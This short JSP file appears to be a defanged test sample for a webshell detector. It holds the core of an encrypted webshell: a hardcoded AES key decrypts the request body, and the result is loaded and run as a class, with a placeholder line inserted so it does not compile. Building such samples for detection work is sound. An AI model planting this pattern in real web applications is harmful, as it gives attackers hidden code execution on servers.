<%-- DEFANGED vigil test sample (see README): the scriptlet below does not compile. --%>
<%@ page import="java.util.*,javax.crypto.*,javax.crypto.spec.*" %>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
    String k = "e45e329feb5d925b";
    session.putValue("u", k);
    Cipher c = Cipher.getInstance("AES");
    c.init(2, new SecretKeySpec(k.getBytes(), "AES"));
    byte[] body = c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()));
    Object o = new U(this.getClass().getClassLoader()).g(body).newInstance();
%>
